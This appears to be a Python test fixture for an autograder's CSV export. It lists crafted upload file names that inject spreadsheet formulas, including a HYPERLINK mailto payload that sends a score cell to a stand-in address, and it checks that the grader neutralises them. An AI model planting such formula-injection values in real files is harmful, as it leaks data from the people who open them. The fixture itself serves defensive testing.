"""Attempt: run a formula in the spreadsheet the teaching assistant opens ``grades.csv``
in: file names (so student ids, and problem texts quoting the name) that start with ``=``,
``+``, ``-``, ``@`` or a tab, such as
``=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")``, which would send another cell's
content away when clicked. The program prints a plausible wrong answer.

The grader must write every text cell so that no spreadsheet takes it for a formula (a
``'`` in front) while the scores stay numbers."""

# Each name the program (lms_sabotage.py) is uploaded under, and where the grader must
# file it: under the attacker's own id, or ("") as an error row that gives it to no one.
NAMES = {
    # Clicked, it mails the next cell (the score) away; a file name holds no "/".
    '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal").py': (
        '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")'
    ),
    "+1+1.py": "+1+1",
    "-2.py": "-2",
    "@SUM(A1).py": "@SUM(A1)",
    "\t=1+1.py": "\t=1+1",
    # An ambiguous Moodle name: its error row's problem text starts with the name.
    "=1+1_22222_assignsubmission_file_x_111_assignsubmission_file_": "",
}
